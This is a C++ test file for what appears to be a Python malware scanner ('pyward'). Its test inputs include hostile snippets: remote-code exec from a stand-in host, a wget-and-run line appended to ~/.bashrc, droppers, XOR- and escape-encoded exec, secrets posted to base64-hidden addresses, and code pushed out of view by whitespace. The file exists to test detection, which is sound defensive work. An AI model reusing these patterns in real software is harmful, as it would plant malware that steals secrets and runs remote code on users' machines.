  ExpectFinding("from tempfile import NamedTemporaryFile as tf\nfrom os import system\nt = tf(delete=False)\n"
                "t.write(b\"from urllib.request import urlopen as u;exec(u('https://p.example/raw/a').read())\")\n"
                "t.close()\nsystem('start pythonw ' + t.name)\n",
                "exec-remote", Severity::kHigh, Phase::kRuntime);
  // Shell text appended to a shell start-up file.
  ExpectFinding("import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
                "        fh.write('wget https://x.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n",
                "download-exec", Severity::kCritical, Phase::kRuntime);
  // Scripts written by a module that starts no program, or that neither
  // download nor run anything, stay data.
  ExpectNoFinding("def f():\n    open('x.py', 'w').write('import os, urllib.request\\n"
                  "urllib.request.urlretrieve(\"https://x.example/a.sh\", \"/tmp/.a.sh\")\\n"
                  "os.system(\"bash /tmp/.a.sh\")\\n')\n", "download-exec");
  ExpectNoFinding("import subprocess\ndef f():\n    open('b.sh', 'w').write('#!/bin/sh\\nset -e\\nmake all\\n')\n"
                  "    open('g.py', 'w').write('import sys\\nprint(sys.version)\\n')\n"
                  "    subprocess.call(['sh', 'b.sh'])\n", "download-exec");
}

TEST(Behaviour, DownloadWriteAndStartByNameInOneFunction) {
  // Nested helpers download to a path and start the path: one dropper.
  const char kDrop[] =
      "import requests, subprocess\ndef get_and_run(url, path):\n"
      "    def save(u, p):\n        r = requests.get(u)\n        with open(p, 'wb') as f:\n"
      "            f.write(r.content)\n    def run(p):\n        subprocess.Popen(p)\n"
      "    save(url, path)\n    run(path)\n";
  ExpectFinding(kDrop, "download-exec", Severity::kMedium, Phase::kRuntime);
  // Without a file written, a command in a variable is not taken for one.
  ExpectNoFinding("import requests, subprocess\ndef f(url, cmd):\n    r = requests.get(url)\n"
                  "    subprocess.Popen(cmd)\n", "download-exec");
}

TEST(Behaviour, CodeDecryptedThroughSeveralStepsIsDecoded) {
  // hex -> XOR with a key given by the caller -> text -> exec: decoded code
  // even though no single assignment holds both the decoder and exec.
  const char kXor[] =
      "def start(key_hex):\n    blob = bytearray.fromhex('0a1b2c3d4e5f60718293a4b5c6d7e8f9')\n"
      "    key = bytearray.fromhex(key_hex)\n"
      "    out = bytearray([blob[i] ^ key[i % 6] for i in range(len(blob))])\n"
      "    code = out.decode('ascii').replace('HOST', 'x.example')\n    exec(code)\n";
  ExpectFinding(kXor, "exec-dynamic", Severity::kHigh, Phase::kRuntime);
  // Code merely assembled from plain text stays weak outside load time.
  auto fs = Analyze("def f(name):\n    src = 'print(' + repr(name) + ')'\n    code = src.strip()\n"
                    "    exec(code)\n", Phase::kRuntime);
  const Finding* f = Find(fs, "exec-dynamic");
  EXPECT_TRUE(f == nullptr || f->severity < Severity::kHigh) << Rules(fs);
}

// What is sent to a hidden address: values named as secrets (in the call or
// in what its arguments are assigned) make the call critical.
TEST(Behaviour, SecretsSentToAHiddenAddress) {
  auto sev = [](std::string_view code) { return testing::SeverityOf(code, "hidden-destination"); };
  EXPECT_EQ(sev("import base64, requests\ndef c(access_key, secret_key):\n"
                "    data = {'ak': access_key, 'sk': secret_key}\n"
                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
                "json=data)\n"),
            Severity::kCritical);
  EXPECT_EQ(sev("import base64, requests\ndef c(t):\n"
                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
                "json={'token': t})\n"),
            Severity::kCritical);
  // A literal body, with a secret-named variable that is not sent: high.
  EXPECT_EQ(sev("import base64, requests\ndef c(n, secret_key):\n"
                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
                "json={'n': 1})\n"),
            Severity::kHigh);
}

TEST(Behaviour, NetworkAtInstall) {
  ExpectFinding("from setuptools import setup\nimport requests\nsetup(name='x')\n"
                "requests.get('http://x.example/?d=1')\n",
                "network-at-install", Severity::kHigh, Phase::kInstall, /*install=*/true);
  ExpectFinding("from setuptools import setup\nfrom setuptools.command.install import install\n"
                "import urllib.request\nclass I(install):\n    def run(self):\n"
                "        urllib.request.urlopen('http://x.example/')\nsetup(cmdclass={'install': I})\n",
                "network-at-install", Severity::kHigh, Phase::kInstall, /*install=*/true);
  // A bootstrapper's download helper is left out.
  auto fs = Analyze("import urllib.request\ndef download():\n    urllib.request.urlopen('https://pypi.example/')\n"
                    "download()\n", Phase::kInstall, true);
  EXPECT_EQ(Find(fs, "network-at-install"), nullptr) << Rules(fs);
}

TEST(Behaviour, InstallTimeWritesIntoUserFolders) {
  ExpectFinding("from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
                "class I(install):\n    def run(self):\n"
                "        os.mkdir(f'C:\\\\Users\\\\{os.getlogin()}\\\\Desktop\\\\x')\n"
                "setup(cmdclass={'install': I})\n",
                "install-writes-user-files", Severity::kCritical, Phase::kInstall, /*install=*/true);
  auto fs = Analyze("import os\nos.makedirs('build/lib')\nopen('build/x.txt', 'w').write('x')\n",
                    Phase::kInstall, true);
  EXPECT_EQ(Find(fs, "install-writes-user-files"), nullptr) << Rules(fs);
}

TEST(Behaviour, CodeSpeltInEscapes) {
  ExpectFinding("e = eval(\"\\145\\166\\141\\x6c\")\n", "exec-decoded", Severity::kCritical);
  ExpectFinding("def f():\n    exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')\n",
                "exec-decoded", Severity::kHigh);
  ExpectNoFinding("print('\\x1b[31m red \\x1b[0m')\neval('1 + 2')\n", "exec-decoded");
  ExpectFinding("eval(''.join(chr(i) for i in [101, 120, 101, 99]))('\\x70\\x72\\x69\\x6e\\x74')\n",
                "exec-decoded", Severity::kCritical);
  ExpectFinding("import builtins\ngetattr(builtins, 'ex' + 'ec')('\\x70\\x72\\x69\\x6e\\x74')\n",
                "exec-decoded", Severity::kCritical);
  ExpectNoFinding("exec('x = \"\\\\x41\" # a long line of code with one escape')\n", "exec-decoded");
}

TEST(Behaviour, QuietForOrdinaryCode) {
  for (const char* code : {
           "import os\nHOME = os.environ.get('HOME')\nprint(HOME)\n",
           "import subprocess\ndef version():\n    return subprocess.check_output(['git', "
           "'describe'])\n",
           "import requests\ndef fetch(url):\n    return requests.get(url).json()\n",
           "import socket\nip = socket.gethostbyname(socket.gethostname())\n",
           "import json\nconfig = json.loads(open('config.json').read())\n",
       }) {
    auto fs = Analyze(code);
    for (const Finding& f : fs)
      EXPECT_LT(f.severity, Severity::kMedium) << code << " -> " << f.rule << ": " << f.message;
  }
}

// --- Concealment signals ----------------------------------------------------
TEST(Concealment, CodePushedRight) {
  std::string code = "import os\nx = 1" + std::string(300, ' ') + ";os.system('id')\n";
  ExpectFinding(code, "code-after-spaces", Severity::kCritical);
  ExpectNoFinding("def f():\n" + std::string(150, ' ') + "return 1\n", "code-after-spaces");
}

TEST(Concealment, CodeAfterSpacesRunLengthsAndEnds) {
  // The run must be 120 blanks (spaces or tabs) long, follow something and
  // be followed by code, not a comment or a continuation; the column
  // reported is the length of the first such run.
  auto pushed = [](const std::string& line) -> std::string {
    auto fs = Analyze("x = 1\n" + line + "\n");
    const Finding* f = Find(fs, "code-after-spaces");
    return f ? f->message.substr(0, f->message.find(" columns")) : "";
  };
  std::string b119(119, ' '), b120(120, ' ');
  EXPECT_EQ(pushed("x = 1" + b119 + ";y()"), "");
  EXPECT_EQ(pushed("x = 1" + b120 + ";y()"), "code is pushed 120");
  EXPECT_EQ(pushed("x = 1" + std::string(60, ' ') + "\t\t" + std::string(58, ' ') + ";y()"),
            "code is pushed 120");
  EXPECT_EQ(pushed("x = 1" + b120), "");
  EXPECT_EQ(pushed("x = 1" + b120 + "# note" + b119 + "z" + b120 + "\t;y()"),
            "code is pushed 121");
  EXPECT_EQ(pushed(b120 + "y()" + std::string(130, ' ') + ";z()"), "code is pushed 130");
  EXPECT_EQ(pushed("a" + std::string(60, ' ') + "b" + std::string(200, ' ') + "c"),
            "code is pushed 200");
}

TEST(Concealment, InvisibleAndMixedScriptIdentifiers) {
  ExpectFinding("a\u200bb = 1\n", "obfuscated-identifier", Severity::kHigh);
  ExpectFinding("p\u0430yload = 1\n", "obfuscated-identifier");  // Cyrillic a
  ExpectNoFinding("\u0434\u0430\u043d\u043d\u044b\u0435 = 1\n", "obfuscated-identifier");
}

TEST(Concealment, IdentifiersSpeltInLookAlikeCharacters) {
  // Names an obfuscator gives: strings of l, I, 1, O and 0.
  auto names = [](int n) {
    std::string code;
    for (int i = 0; i < n; ++i) {
      std::string name = "lI";
      for (int b = 0; b < 8; ++b) name += (i >> b) & 1 ? "O0"[b % 2] : "l1"[b % 2];
      code += name + " = " + std::to_string(i) + "\n";
    }
    return code;
  };
  ExpectNoFinding(names(5), "obfuscated-identifier");
  ExpectFinding(names(8), "obfuscated-identifier", Severity::kMedium, Phase::kImport);
  ExpectFinding(names(25), "obfuscated-identifier", Severity::kHigh, Phase::kImport);
  ExpectFinding(names(25), "obfuscated-identifier", Severity::kCritical, Phase::kInstall,
                /*install=*/true);  // setup.py renamed by an obfuscator
  // One letter repeated, digits only, ordinary names: not look-alike spelling.
  ExpectNoFinding("llllll = 1\nIIIIII = 2\nOOOOOO = 3\n_100100 = 4\nhello_world = 5\n"
                  "l1 = 6\nI0 = 7\nlOlO = 8\n", "obfuscated-identifier");
}

TEST(Concealment, EntropyAndPyArmor) {
  std::string blob;
  uint32_t x = 12345;
  for (int i = 0; i < 4000; ++i) {
    x = x * 1103515245 + 12345;
    blob += "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(x >> 16) % 64];
  }
  ExpectFinding("D = '" + blob + "'\n", "high-entropy-blob");
  ExpectFinding("from pytransform import pyarmor_runtime\npyarmor_runtime()\n", "pyarmor-stub",
                Severity::kHigh);
}

}  // namespace
}  // namespace pyward

namespace pyward {
namespace {

TEST(ImportsOf, StatementsAtLineStarts) {
  auto imports = ImportsOf(
      "import os, sys as s\n"
      "from .core import (a,\n    b)\n"
      "def f():\n    from pkg.sub import thing as t\n"
      "x = 'import nothing'\n");
  std::vector<std::string> want = {"os", "sys", ".core", ".core.a", ".core.b", "pkg.sub",
                                   "pkg.sub.thing"};
  EXPECT_EQ(imports, want);
}

TEST(ImportsOf, CallsWithAConstantName) {
  auto imports = ImportsOf(
      "import importlib\n"
      "mod = importlib.import_module('pkg.core')\n"
      "if x: __import__(\"pkg._impl\")\n"
      "importlib.import_module('.rel', __name__)\n"
      "importlib.import_module(name)\n"
      "__import__('bad name')\n");
  EXPECT_EQ(imports, (std::vector<std::string>{"importlib", "pkg.core", "pkg._impl", ".rel"}));
}

TEST(ImportsOf, ListsSpanningLinesAndLinesWithoutNewline) {
  // A list whose later lines mention `import` is read once; a later line,
  // CRLF endings and a last line without a newline are still read.
  auto imports = ImportsOf(
      "x = 1  # import nothing here\r\n"
      "from a import (b,\r\n  import_c)\r\n"
      "\timport d\r\n"
      "y = 'from e import f'\n"
      "import g");
  std::vector<std::string> want = {"a", "a.b", "a.import_c", "d", "g"};
  EXPECT_EQ(imports, want);
  EXPECT_TRUE(ImportsOf("").empty());
  EXPECT_TRUE(ImportsOf("import").empty());
  EXPECT_EQ(ImportsOf("from x import (y"), std::vector<std::string>{});
}

}  // namespace
}  // namespace pyward
